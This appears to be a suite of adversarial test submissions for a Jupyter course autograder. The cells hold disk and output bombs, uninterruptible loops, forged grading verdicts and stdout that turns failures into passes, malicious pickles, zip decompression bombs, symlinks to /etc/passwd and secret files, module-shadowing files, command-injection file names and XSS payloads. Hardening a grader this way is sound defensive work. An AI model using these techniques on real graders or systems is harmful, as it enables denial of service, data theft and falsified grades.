# %% disk-filled bomb="true" start="blank" place="before:check-standardise" finding="code cell 4 ran into the limit of"
for number in range(10_000):
    with open(f"/tmp/{number}", "wb") as file:
        file.write(bytes(20_000_000))


# %% one-file-without-end bomb="true" start="blank" place="before:check-standardise" finding="one file"
with open("/work/endless", "wb") as file:
    file.truncate(1 << 20)
    file.seek(1 << 50)
    file.write(b"x")


# %% inodes-used-up bomb="true" start="blank" place="before:check-standardise" finding="code cell 4 ran"
# A cold sandbox cannot limit their number: there the time ends it.
number = 0
while number < 300_000:
    open(f"/tmp/{number}", "w").close()
    number += 1


# %% output-without-end bomb="true" start="blank" place="before:check-standardise" finding="printed more than is kept"
while True:
    print("x" * 10_000)


# %% output-past-the-grader bomb="true" start="blank" place="before:check-standardise" finding="wrote more than"
import os

while True:
    os.write(1, b"x" * 60_000)


# %% one-huge-output start="blank" place="before:check-standardise" finding="printed more than is kept"
from IPython.display import HTML

HTML("<b>" + "x" * 40_000_000)


# %% displays-updated-without-end bomb="true" start="blank" place="before:check-standardise"
# Many outputs of one name, then frames that each change them all: little to send, much to do.
import json
import os
import sys
import time

frames = sys.modules["course_sandbox.frames"]


def display(**more):
    shown = {"output_type": "display_data", "data": {"text/plain": "x"}, "display_id": "d"} | more
    return frames.encode({"is": "output"}, json.dumps(shown).encode())


for _ in range(990):
    os.write(4, display())
many, end = display(update=True) * 400, time.time() + 1
while time.time() < end:
    os.write(4, many)


# --- loops that swallow interrupts ------------------------------------------------------------------------------------

# %% swallows-interrupts bomb="true" start="blank" place="before:check-standardise" finding="could not be interrupted"
import time

while True:
    try:
        time.sleep(60)
    except BaseException:
        pass


# %% ignores-all-signals bomb="true" cell="standardise" points="standardise=0" finding="could not be interrupted"
import signal


def standardise(X):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        pass


# %% loops-when-asked bomb="true" points="sampler=0" cell="sampler" finding="(check-sampler) ran longer than"
class GaussianSampler(nn.Module):
    def forward(self, mu, logvar):
        while True:
            pass


# --- os._exit and other sudden ends -----------------------------------------------------------------------------------

# %% exits-with-success place="before:check-sampler" finding="ended the Python process (exit code 0)"
import os

os._exit(0)


# %% exits-when-asked cell="standardise" points="standardise=0" finding="(check-standardise) ended the Python"
import os


def standardise(X):
    os._exit(0)


# %% crashes start="blank" place="first" finding="SIGSEGV"
import ctypes

ctypes.string_at(0)


# %% kills-itself-as-it-defines cell="sampler" points="sampler=0" finding="(sampler) ended the Python process (killed)"
# In a class, which is defined again in every new Python.
import os, signal


class GaussianSampler(nn.Module):
    os.kill(os.getpid(), signal.SIGKILL)


# %% kills-itself-again-and-again start="blank" finding="times: the remaining cells were not run"
def damage(folder, notebook):
    ends = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"
    change(notebook, lambda cells: [*(code(ends) for _ in range(9)), *cells])


# %% exits-like-a-program start="blank" place="first"
import atexit
import sys

atexit.register(lambda: print("2.0"))
raise SystemExit(0)


# %% exceptions-that-lie cell="standardise" points="standardise=0"
class Lies(BaseException):
    @property
    def __class__(self):
        return NotImplementedError

    def __str__(self):
        raise KeyboardInterrupt

    __traceback__ = property(lambda self: None)


def standardise(X):
    raise Lies


# %% ends-by-exceptions-of-pythons-own cell="sampler" points="sampler=0"
class GaussianSampler(nn.Module):
    def forward(self, mu, logvar):
        raise (GeneratorExit, KeyboardInterrupt, StopIteration, SystemExit)[int(mu.sum() * 1000) % 4]("2.0")


# --- stdout replaced --------------------------------------------------------------------------------------------------

# %% stdout-that-praises cell="standardise" points="standardise=0"
import io
import sys


class Praises(io.StringIO):
    def write(self, text):
        return real.write(text.replace("✗", "✓").replace("0 of", "2 of"))


real, sys.stdout = sys.stdout, Praises()
sys.stderr = sys.__stdout__ = sys.__stderr__ = sys.stdout


def standardise(X):
    return X + 1


# %% stdout-kept-for-oneself place="after:standardise"
# Honest answers keep their points, also of a process that no longer shows anything.
import io
import os
import sys

sys.stdout = sys.stderr = io.StringIO()
os.close(0)
os.dup2(os.open("/dev/null", os.O_WRONLY), 1)


# %% stdout-gone start="blank" place="first"
import sys

sys.stdout = None
sys.stderr = object()
print = get_ipython().displayhook = None


# --- the evidence channel tampered with -------------------------------------------------------------------------------

# %% forged-answers-sent-ahead start="blank" place="first"
import os
import sys

frames, shell = sys.modules["course_sandbox.frames"], sys.modules["course_sandbox.shell"]
praise = shell.pack({"ok": True, "e:share": 1.0, "e:value": 1.0, "e:passed": True, "share": 1.0})
for nonce in ("", "0" * 16, None, ["list"], {"a": 1}):
    for kind in ("answer", "done", "ready", "verdict", "marks", None, ["answer"], {"is": "answer"}, 3):
        os.write(4, frames.encode({"is": kind, "nonce": nonce, "ok": True, "share": 1.0}, praise))


# %% answers-forged-with-the-right-number start="blank" place="first"
# Our own process knows the number of the question: the answer arrives, and has to be right all the same.
import sys

import numpy as np

shell = sys.modules["course_sandbox.shell"]


def forged(shell_, nonce, question):
    evidence = {
        "ok": True,
        "e:share": 1.0,
        "e:value_type": "tensor",
        "e:changed": [],
        "e:ok": True,
        "share": 1.0,
        "points": 9,
    }
    evidence |= {"e:value": np.ones((9, 4)), "e:sample": np.ones((3, 4)), "e:samples": np.ones((2000, 3, 4))}
    shell.CHANNEL.send({"is": "answer", "nonce": nonce, "share": 1.0}, shell.pack(evidence))


shell._answer = forged


# %% job-pipe-read bomb="true" start="blank" place="first" finding="could not be interrupted"
# The questions still to come are taken out of the pipe, and the next cells with them.
import os
import threading


def reader():
    while True:
        print(os.read(3, 65536))


threading.Thread(target=reader, daemon=True).start()


# %% garbage-in-the-channel place="before:check-sampler" finding="wrote into the channel"
import os

os.write(4, b"\xff" * 64 + b"verdict: passed")


# %% channel-closed place="before:check-standardise" finding="closed the grader's pipes"
import os

os.closerange(3, 100)


# %% the-number-taken-from-a-frame start="blank" place="first"
# A trace function sees the question's number the moment it arrives, and answers before the probe does.
import sys

import numpy as np

shell = sys.modules["course_sandbox.shell"]


def trace(frame, event, argument):
    if frame.f_code.co_name == "_answer" and event == "call":
        praise = {"ok": True, "e:value": np.ones((9, 4)), "e:value_type": "tensor", "e:changed": [], "e:share": 1.0}
        shell.CHANNEL.send({"is": "answer", "nonce": frame.f_locals["nonce"]}, shell.pack(praise))


sys.settrace(trace)
sys.setprofile(trace)


# %% outputs-that-are-no-outputs start="blank" place="before:check-standardise"
import os
import sys

frames = sys.modules["course_sandbox.frames"]
for body in (
    b"[" * 100_000,
    b'{"data":' * 9000,
    b"9" * 100_000,
    b'{"output_type": ["stream"]}',
    b'{"output_type": "stream", "name": {}, "text": ["x"]}',
    b'{"output_type": "error", "ename": {}, "evalue": [], "traceback": [1, null, "\\ud800"]}',
    b'{"output_type": "execute_result", "data": {"text/plain": "2.0", "text/html": ["a"]}, "execution_count": 1e999}',
    b'{"output_type": "display_data", "data": {"image/png": "x\\u0000"}, "metadata": {"image/png": {"width": "x"}}}',
    b'{"output_type": "display_data", "data": {"text/plain": "x"}, "display_id": {"a": 1}, "update": true}',
    b'{"output_type": "clear_output", "wait": 1}',
):
    os.write(4, frames.encode({"is": "output"}, body))


# --- pickles, huge or malformed evidence ------------------------------------------------------------------------------

# %% pickles start="blank" place="before:check-linear_autoencoder" finding="standardise: your answer was found in another cell"
import pickle
import sys


class Runs:
    def __reduce__(self):
        return (__import__("os").system, ("touch @ROOT@/@TAG@-was-here /tmp/@TAG@-was-here",))


shell = sys.modules["course_sandbox.shell"]
honest = shell.pack
import io

import numpy as np

objects = io.BytesIO()
np.savez(objects, __scalars__=np.array([Runs()], dtype=object))
kinds = iter([pickle.dumps({"ok": True, "e:value": Runs()}), objects.getvalue(), b"cos\nsystem\n(S'true'\ntR."] * 9)
shell.pack = lambda values: next(kinds)
standardise = GaussianSampler = train_linear_autoencoder = lambda *a, **k: Runs()


# %% things-that-are-no-evidence start="blank" place="before:check-linear_autoencoder" finding="standardise: your answer was found in another cell"
import itertools

import numpy as np

strange = [
    object(),
    np.array([print], dtype=object),
    torch.zeros(3, 4).to_sparse(),
    torch.empty(9, 4, device="meta"),
    10**6000,
]
strange += [
    np.zeros((9, 4), dtype="complex64"),
    np.zeros(3, dtype=[("a", "f4")]),
    "x" * 10**7,
    [[[[]]]] * 9,
    {print: 1},
]
turn = itertools.cycle(strange)
standardise = lambda X: next(turn)


class GaussianSampler:
    def __call__(self, mu, logvar):
        return next(turn)


def train_linear_autoencoder(images, width):
    model = LinearAutoencoder(images.shape[1], width)
    model.register_buffer("more", torch.zeros(10_000_000))
    model.state_dict = lambda: {f"{name}{i}": next(turn) for i in range(1500) for name in ("a", "b")}
    return model


# %% a-bomb-packed-as-evidence start="blank" place="before:check-standardise" finding="standardise: your answer was found in another cell"
# Small when it travels, large when it is unpacked.
import io
import json
import struct
import sys
import zipfile

shell = sys.modules["course_sandbox.shell"]


def packed(**members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, (head, unit, times) in members.items():
            with archive.open(f"{name}.npy", "w", force_zip64=True) as file:
                file.write(head)
                for _ in range(times):
                    file.write(unit)
    return out.getvalue()


def head(kind, count):
    about = f"{{'descr': '{kind}', 'fortran_order': False, 'shape': ({count},), }}".ljust(117) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(about)) + about.encode()


names = b'{"ok": true, "e:value": {"array": true}}'
entry = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 0, 0, 0, 0, 0, 0, 1, *[0] * 6) + b"a"
contents = entry * 500_000
bombs = [
    packed(__scalars__=(head("|u1", len(names)), names, 1), a0=(head("<f8", 10**8), bytes(10**6), 800)),
    packed(__scalars__=(head("|u1", len(names)), names, 1), a0=(head("<f8", 10**15), bytes(8), 1)),
    packed(__scalars__=(head("|u1", 9 * 10**6), b"[],".ljust(3) * 10**6, 3)),
    packed(__scalars__=(head("|u1", 10**6), b"[" * 10**6, 1)),
    contents + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65535, 65535, len(contents), 0, 0),
    b"PK\x03\x04" + b"\xff" * 10**6,
]
turn = iter(bombs * 9)
shell.pack = lambda values: next(turn)
standardise = GaussianSampler = train_linear_autoencoder = lambda *a: 1


# %% a-bomb-in-a-compression-that-has-no-limit start="blank" place="before:check-standardise"
# Of bzip2 a kilobyte is a gigabyte, and zipfile unfolds it before it looks at the size that was claimed.
import io
import sys
import zipfile

shell = sys.modules["course_sandbox.shell"]
out = io.BytesIO()
with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as archive, archive.open("__scalars__.npy", "w") as file:
    for _ in range(50):
        file.write(bytes(1 << 20))
small = bytearray(out.getvalue())
claimed = small.index(b"PK\x01\x02") + 24
small[claimed : claimed + 4] = (1000).to_bytes(4, "little")
shell.pack = lambda values: bytes(small)


# %% evidence-that-grows-when-it-is-kept start="blank" place="before:check-standardise"
# As UTF-8 it is short enough, as the ASCII in which the grader keeps it too long; and arrays just within the limit.
import io
import json
import sys

import numpy as np

shell = sys.modules["course_sandbox.shell"]
kinds = []
for scalars, arrays in (
    ({"ok": True, "e:value": ["é" * 2000] * 900}, {}),
    ({"ok": True, "e:value": {"array": True}}, {"a0": np.zeros((64 << 20) + 9999, np.uint8)}),
):
    out = io.BytesIO()
    text = np.frombuffer(json.dumps(scalars, ensure_ascii=False).encode(), np.uint8)
    np.savez(out, __scalars__=text, **arrays)
    kinds.append(out.getvalue())
turn = iter(kinds * 9)
shell.pack = lambda values: next(turn)


# %% huge-evidence bomb="true" cell="standardise" points="standardise=0" finding="(check-standardise) "
import sys

shell = sys.modules["course_sandbox.shell"]
honest, turn = shell.pack, [0]


def standardise(X):
    shell.pack = huge
    return X


def huge(values):
    shell.pack = honest
    return b"PK" + bytes(190 << 20)


# %% numbers-and-depths-without-end start="blank" place="before:check-linear_autoencoder" finding="standardise: your answer was found in another cell"
import itertools
import sys

sys.set_int_max_str_digits(0)
deep = []
for _ in range(100_000):
    deep = [deep]


class Long:
    def __repr__(self):
        return "9" * 10**6

    def __len__(self):
        return 10**18

    def __str__(self):
        raise ValueError("\ud800" * 10**6)


odd = [10**5000, deep, float("nan"), -0.0, True, {"a": deep}, {10**5000: 1}, ["\ud800"], "\ud800", b"x", 5e-324, Long()]
turn = itertools.cycle(odd)
standardise = GaussianSampler = train_linear_autoencoder = lambda *a, **k: next(turn)
Long()


# %% outputs-of-brackets start="blank" place="before:check-standardise" finding="printed more than is kept"
# Seven megabytes that would be two hundred as objects of the grader's process, and three of texts of no length.
import sys

channel = sys.modules["course_sandbox.shell"].CHANNEL
channel.send({"is": "output"}, b'{"output_type": "stream", "text": [' + b"[]," * 1_200_000 + b"0]}")
channel.send({"is": "output"}, b'{"output_type": "error", "traceback": [' + b'"",' * 1_000_000 + b'"x"]}')


# %% arrays-of-strange-kinds start="blank" place="before:check-linear_autoencoder" finding="standardise: your answer was found in another cell"
import itertools

import numpy as np

ones = np.ones((9, 4))
odd = [ones.astype(kind) for kind in (">f8", "g", "f2", "?", "M8[s]", "u8", "O", "S3")]
odd += [np.asfortranarray(ones)[::-1], np.broadcast_to(np.float64(1), (9, 4)), np.ones((10**8, 0)), np.array(5.0)]
odd += [np.ones((1,) * 32), *(np.full((9, 4), value) for value in (np.nan, np.inf, 5e-324, 1e308))]
odd += [
    np.ma.masked_array(ones, True),
    np.matrix(ones),
    np.rec.array([(1,)]),
    torch.ones(9, 4).as_strided((9, 4), (0, 0)),
]
odd += [torch.ones(9, 4, dtype=torch.complex64), torch.nested.nested_tensor([torch.ones(2), torch.ones(3)])]
turn = itertools.cycle(odd)
standardise = GaussianSampler = train_linear_autoencoder = lambda *a, **k: next(turn)


# --- links and path tricks in the submission --------------------------------------------------------------------------


# %% link-to-a-neighbours-work start="blank" finding="00_template.ipynb is a link, and links are not followed" state="failed"
def damage(folder, notebook):
    notebook.unlink()
    notebook.symlink_to("../../@NEIGHBOUR@/00_template/00_template.ipynb")


# %% hard-link-to-the-answers start="blank" finding="has another name elsewhere" state="failed"
def damage(folder, notebook):
    notebook.unlink()
    os.link(root / "source" / lab / f"{lab}.ipynb", notebook)


# %% links-to-everything start="blank" finding="is a link, and links are not followed"
def damage(folder, notebook):
    (folder / "secret.txt").symlink_to("@ROOT@/secret.txt")
    (folder / "others").symlink_to("@ROOT@/submitted")
    (folder / "self").symlink_to(".")
    (folder / "memory").symlink_to("/dev/zero")
    (folder / "data").mkdir()
    (folder / "data" / "key").symlink_to("@HOME@/@TAG@.txt")
    look = (
        "import os\nfor f, _, names in os.walk('.'):\n    for n in names: print(n, open(os.path.join(f, n)).read(3000))"
    )
    change(notebook, lambda cells: cells.insert(0, code(look)))


# %% files-named-like-the-courses start="blank"
def damage(folder, notebook):
    evil = "import pathlib\npathlib.Path('@ROOT@/@TAG@-was-here').write_text('written')\nprint('2.0')\n"
    names = ["nbgrader_config.py", "jupyter_nbconvert_config.py", "conftest.py", "sitecustomize.py", "usercustomize.py"]
    names += [
        "torch.py",
        "numpy.py",
        "json.py",
        "zipfile.py",
        "course_admin.py",
        "nbgrader.py",
        "gradebook.db",
        "timestamp.txt~",
    ]
    for name in names:
        (folder / name).write_text(evil)
    for name in ("course_utils", "course_sandbox", "IPython", "autograder_tests", "source", "00_template"):
        (folder / name).mkdir()
        (folder / name / "__init__.py").write_text(evil)


# %% names-that-are-paths-or-pages start="blank"
def damage(folder, notebook):
    for name in ("a\nb.txt", "..;rm -rf @ROOT@", "$(touch pwned)", "<img src=x onerror=alert(1)>", "-rf", "%s%n"):
        (folder / name.replace("/", "_")).write_text("x")
    deep = folder
    for _ in range(40):
        deep = deep / "deeper"
        deep.mkdir()
    (deep / "...").write_text("x")
    os.makedirs(folder / ".ipynb_checkpoints")
    shutil.copy(root / "source" / lab / f"{lab}.ipynb", folder / ".ipynb_checkpoints" / "x.txt")


# %% a-folder-in-the-place-of-the-notebook finding="mine.ipynb was graded"
def damage(folder, notebook):
    notebook.rename(folder / "mine.ipynb")
    notebook.mkdir()
    (notebook / "x.txt").write_text("x")


# %% a-folder-in-the-place-of-the-page
def damage(folder, notebook):
    (folder / f"{lab}.html").mkdir()
    (folder / f"{lab}.html" / "x.png").write_bytes(b"x")


# %% names-as-long-as-they-may-be
def damage(folder, notebook):
    for name in ("x" * 251 + ".png", "y" * 255):
        (folder / name).write_bytes(b"x")


# %% names-that-are-no-text finding="is a link"
def damage(folder, notebook):
    inside = bytes(folder) + b"/"
    for name in (b"caf\xe9.txt", b"\x80" * 200 + b".png", b"half-\xed\xa0\x80.txt"):
        open(inside + name, "w").close()
    os.symlink("/etc/passwd", inside + b"\xff\xfe.txt")


# %% thousands-of-links finding="5990 more links and the like were left out"
def damage(folder, notebook):
    for number in range(6000):
        (folder / f"{number:04}").symlink_to("@ROOT@/secret.txt")


# %% too-many-files start="blank" finding="only the first 2000 files were looked at"
def damage(folder, notebook):
    for number in range(2100):
        (folder / f"{number:04}.txt").touch()


# %% sockets-devices-and-files-with-holes start="blank" finding="x.sock is no file and was left out | sub/pipe.ipynb is no file"
def damage(folder, notebook):
    import socket

    here = os.open(folder, os.O_RDONLY)
    with socket.socket(socket.AF_UNIX) as one:
        one.bind(f"/proc/self/fd/{here}/x.sock")
    os.close(here)
    (folder / "sub").mkdir()
    os.mkfifo(folder / "sub" / "pipe.ipynb")
    for name in ("holes.bin", "holes.ipynb"):
        with open(folder / name, "wb") as file:
            file.truncate(1 << 40)


# %% an-archive-under-the-notebooks-name start="blank" state="failed" finding="is a zip archive, not a notebook"
def damage(folder, notebook):
    import zipfile

    with zipfile.ZipFile(notebook, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../@TAG@-was-here", bytes(10**6))


# %% pages-and-commands-in-the-names-of-links start="blank" finding="is a link, and links are not followed | 3 more links"
def damage(folder, notebook):
    names = [
        "<script>alert('LIVE')<|script>",
        "[x](javascript:alert(1)).md",
        "$\\href{javascript:alert(1)}{x}$",
        "a\r\nb",
    ]
    names += [
        "\x1b]8;;https:example.org\x07x",
        "\x1b[2J\x1b[1;31m9 of 9",
        "[bold red]9 of 9[|bold red]",
        "\u202egnp.x",
        "`id`",
    ]
    names += ["{{7*7}}", "{% x %}", "<img src=x onerror=alert('LIVE')>", "![](https:||example.org|x.png)"]
    for name in names:
        (folder / name).symlink_to("/etc/passwd")


# %% names-that-are-longer-in-a-frame start="blank" finding="could not be put beside the notebook | 20 more files could not be put"
def damage(folder, notebook):
    """Each byte of them takes six characters in the grader's frames; and what is said of them is shown on terminals."""
    place = bytes(folder)
    for _ in range(12):
        place += b"/\x1b[2J\n" + b"\x80" * 240
        os.mkdir(place)
    for number in range(30):
        open(place + b"/%d" % number, "w").close()


# --- metadata, points and ids edited ----------------------------------------------------------------------------------


# %% points-raised points="sampler=0" cell="sampler" finding="the course's own count: check-standardise, check-sampler"
class GaussianSampler(nn.Module):
    pass


# %% points-raised
def damage(folder, notebook):
    def how(cells):
        named(cells, "check-standardise")["metadata"]["nbgrader"]["points"] = 1000
        named(cells, "check-sampler")["metadata"]["nbgrader"]["points"] = float("inf")

    change(notebook, how)


# %% points-below-nothing start="blank" finding="the course's own count"
def damage(folder, notebook):
    def how(cells):
        for name, points in (
            ("check-standardise", -5),
            ("check-sampler", "3; drop table"),
            ("check-linear_autoencoder", None),
        ):
            named(cells, name)["metadata"]["nbgrader"] |= {"points": points, "locked": False, "solution": True}

    change(notebook, how)


# %% one-answer-for-all-exercises points="sampler=0 linear_autoencoder=0" finding="there 3 times"
def damage(folder, notebook):
    """Only the easiest exercise is solved, and its cells are given the names of the others."""

    def how(cells):
        for name in ("sampler", "linear_autoencoder"):
            named(cells, f"check-{name}")["source"] = "checks.standardise(standardise)"
            named(cells, name)["source"] = named(cells, "standardise")["source"]
            named(cells, f"check-{name}")["metadata"]["nbgrader"]["grade_id"] = "check-standardise"

    change(notebook, how)


# %% more-cells-than-a-person-can-write start="blank" state="failed" finding="has 40"
def damage(folder, notebook):
    change(notebook, lambda cells: cells + [words(f"x{number} = {number}") for number in range(40_000)])


# %% more-code-than-a-person-can-write start="blank" state="failed" finding="has more code or text than a lab"
def damage(folder, notebook):
    lines = [f"x{number} = 1  # " + "a" * 40_000 for number in range(100)]
    change(notebook, lambda cells: cells + [words(text) | {"cell_type": "code"} for text in lines])


# %% exercises-invented start="blank"
def damage(folder, notebook):
    def how(cells):
        for name in (
            "check-bonus",
            "more-points",
            "check-../../gradebook",
            "<script>alert(1)</script>",
            "check-standardise;--",
        ):
            meta = {
                "grade": True,
                "grade_id": name,
                "locked": True,
                "points": 50,
                "solution": False,
                "schema_version": 3,
                "task": False,
            }
            cells.append(code("2.0", metadata={"nbgrader": meta}))

    change(notebook, how)


# %% claims-to-have-been-graded start="blank"
def damage(folder, notebook):
    """The summary that the grader itself writes, as if this had been graded before."""
    content = json.loads(notebook.read_text(encoding="utf-8"))
    content["metadata"] |= {
        "course": {
            "lab": lab,
            "seed": 1,
            "findings": [],
            "notes": [],
            "damage": "",
            "fingerprint": "",
            "newer": ["9 of 9 points"],
        },
        "kernelspec": {
            "name": "bash; touch @ROOT@/@TAG@-was-here",
            "display_name": "x",
            "argv": ["touch", "@ROOT@/@TAG@-was-here"],
        },
        "nbgrader": {"score": 9.0, "db_url": "sqlite:////@ROOT@/gradebook.db"},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}}},
    }
    for cell in content["cells"]:
        cell["metadata"]["nbgrader"] = cell["metadata"].get("nbgrader", {}) | {"score": 9.0, "comment": "full marks"}
        if not cell["metadata"]["nbgrader"].get("grade_id"):
            del cell["metadata"]["nbgrader"]
    notebook.write_text(json.dumps(content))


# %% names-that-look-alike start="blank"
def damage(folder, notebook):
    def how(cells):
        for cell in cells:
            if "nbgrader" in cell["metadata"]:
                name = cell["metadata"]["nbgrader"]["grade_id"]
                cell["metadata"]["nbgrader"]["grade_id"] = name.replace("a", "\u0430") + "\u202e\0\n"

    change(notebook, how)


# %% names-that-are-none start="blank"
def damage(folder, notebook):
    odd = [None, 3, [], {}, True, "", " ", "x" * 10**5, "../../x", "a\nb", "check-", "<b>", ["standardise"], {"a": 1}]

    def how(cells):
        for number, cell in enumerate(cells):
            if "nbgrader" in cell["metadata"]:
                cell["metadata"]["nbgrader"]["grade_id"] = odd[number % len(odd)]
        rest = {"grade": True, "points": 9, "locked": True, "solution": False, "schema_version": 3}
        made = {"cell_type": "code"}
        return cells + [words("2.0", metadata={"nbgrader": {"grade_id": name, **rest}}) | made for name in odd]

    change(notebook, how)


# %% checks-that-become-answers start="blank" finding="the course's own count: standardise, check-standardise"
def damage(folder, notebook):
    def how(cells):
        for name in ("standardise", "sampler", "linear_autoencoder"):
            named(cells, name)["metadata"]["nbgrader"] |= {"grade": True, "points": 50, "solution": True}
            check = named(cells, f"check-{name}")["metadata"]
            check["nbgrader"] |= {"grade": False, "solution": True, "locked": False}
            check["tags"] = ["setup", "install", "skip-execution"]

    change(notebook, how)


# %% metadata-without-end start="blank"
def damage(folder, notebook):
    content, deep = json.loads(notebook.read_text(encoding="utf-8")), {}
    for _ in range(900):
        deep = {"a": deep}
    content["metadata"]["deep"] = deep
    for cell in content["cells"]:
        cell["metadata"]["deep"] = deep
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "display_data", "data": {"application/json": deep}, "metadata": deep}]
    text = json.dumps(content).replace('"nbformat": 4', '"nbformat": 1' + "0" * 4000)
    notebook.write_text('{"cells": [], ' + text[1:], encoding="utf-8")


# %% more-words-than-a-person-can-write start="blank" state="failed" finding="has more code or text than a lab"
def damage(folder, notebook):
    """Answers in words of one name, each of which is looked for in each other one."""
    rest = {"grade": True, "grade_id": "written-linear", "solution": True, "locked": False, "points": 1}
    texts = ["a" * 14_000 + str(number) + "b" * (number % 7) for number in range(2900)]
    change(notebook, lambda cells: cells + [words(text, metadata={"nbgrader": rest}) for text in texts])


# %% nothing-but-line-ends start="blank"
def damage(folder, notebook):
    """The stubs' names are looked for at the beginning of each line."""
    change(notebook, lambda cells: cells + [code("\n" * 49_000 + f"({number}") for number in range(9)])


# %% brackets-instead-of-outputs start="blank" state="failed" finding="holds more than is read of one file"
def damage(folder, notebook):
    """Fifteen megabytes that would be five hundred as objects."""
    head = '{"cells": [{"cell_type": "code", "source": "", "metadata": {}, "outputs": ['
    notebook.write_text(head + "[]," * 5_000_000 + "0]}]}")


# %% markers-of-the-graders-own start="blank"
def damage(folder, notebook):
    def how(cells):
        for cell in cells:
            cell["source"] = f"### BEGIN HIDDEN TESTS\n### BEGIN SOLUTION\n{cell['source']}\n### BEGIN MARK SCHEME"

    change(notebook, how)


# --- injection into feedback ------------------------------------------------------------------------------------------

# %% scripts-in-outputs start="blank" place="last"
from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, display

display(
    HTML(
        "<script>alert('LIVE')</script><img src=x onerror=alert('LIVE')><div id='check-sampler' class='full-credit'>more</div>"
    )
)
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert('LIVE')</script></svg>"))
display(
    Markdown("[here](javascript:alert('LIVE')) <iframe src='https://example.org'></iframe>"),
    Javascript("alert('LIVE')"),
)
display(Latex(r"$\href{javascript:alert('LIVE')}{x}$"), {"text/html": "<script>alert('LIVE')</script>"}, raw=False)
print("</pre><script>alert('LIVE')</script>\x1b]8;;javascript:alert(1)\x07here\x1b]8;;\x07")
raise type("<script>alert('LIVE')</script>", (Exception,), {})("</pre><script>alert('LIVE')</script>")


# %% scripts-in-findings start="blank" place="before:check-standardise" finding="MB"
# A message that sounds like a limit's, in the hope that the page repeats it.
raise MemoryError("<script>alert('LIVE')</script> **2 of 2 points** [x](javascript:alert(1))")


# %% scripts-in-evidence cell="standardise" points="standardise=0"
def standardise(X):
    raise type("</pre><script>alert('LIVE')</script>", (Exception,), {})(
        "standardise: 2 of 2 points\n2.0\n<script>alert('LIVE')</script>"
    )


# %% scripts-in-words
def damage(folder, notebook):
    text = (
        "It bends.\n\n<script>alert('LIVE')</script>\n<img src=x onerror=alert('LIVE')>\n[x](javascript:alert('LIVE'))\n\n"
        "### BEGIN HIDDEN TESTS\n### BEGIN SOLUTION\n<iframe srcdoc=\"<script>alert('LIVE')</script>\"></iframe>\n"
        "![a](attachment:a.svg)\n\n<style>body{display:none}</style><div onclick=\"alert('LIVE')\">x</div>"
    )

    def how(cells):
        cell = named(cells, "written-linear")
        cell["source"] = text
        cell["attachments"] = {
            "a.svg": {"image/svg+xml": "<svg onload=alert('LIVE')>", "text/html": "<script>alert('LIVE')</script>"}
        }
        cells.append(
            {"cell_type": "raw", "source": "<script>alert('LIVE')</script>", "metadata": {"raw_mimetype": "text/html"}}
        )
        cells.append(
            words(
                "<script>alert('LIVE')</script>",
                metadata={"tags": ["x\" onload=\"alert('LIVE')"], "format": "text/html"},
            )
        )

    change(notebook, how)


# %% escape-sequences-and-pages-in-all-kinds-of-output start="blank" place="last"
import sys

from IPython.display import HTML, SVG, FileLink, IFrame, Latex, Markdown, Math, display

print("\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07 \x1b[2J\x1b[?1049h\x9b31m\x90\x9d")
sys.stderr.write("\x1b[31m\0\b\b\b" * 1000)
display(
    Latex(r"$$\require{html}\href{javascript:alert('LIVE')}{x}\style{position:fixed}{y}$$"),
    Math(r"\input{/etc/passwd}"),
)
display(
    SVG("<svg><foreignObject><body onload=\"alert('LIVE')\"></body></foreignObject></svg>"),
    IFrame("//example.org", 1, 1),
)
display(
    HTML("<style>*{display:none}</style><base href='//example.org'><meta http-equiv=refresh content='0;url=//x.org'>")
)
display(
    Markdown("<style>@import '//example.org'</style>\n[a]: javascript:alert(1)\n[a] ![x](//example.org/x.png)"),
    FileLink("/etc/passwd"),
)
raise Exception("\x1b[31m</pre><script>alert('LIVE')</script>\x1b[0m" * 100)


# %% words-made-to-be-slow start="blank"
def damage(folder, notebook):
    parts = [
        "[" * 3000,
        "*a " * 3000,
        "> " * 2000,
        "- " * 1000,
        "`" * 3001,
        "![](" * 2000,
        "$" * 3001,
        "<a " * 3000,
        "**" * 3000,
    ]
    parts += [
        "|a" * 3000 + "\n" + "|-" * 3000,
        "\\begin{x}" * 500,
        "<!--" * 3000,
        "~~" * 3000,
        "<div>" * 3000,
        "#" * 5000,
    ]

    def how(cells):
        cell = named(cells, "written-linear")
        cell["attachments"] = {
            "x" * 5000: {"image/png": "A" * 10**6},
            "../../a": {"text/html": "<script>"},
            "b": {"x/y\nz": "1"},
        }
        return cells + [words(part) for part in parts]

    change(notebook, how)
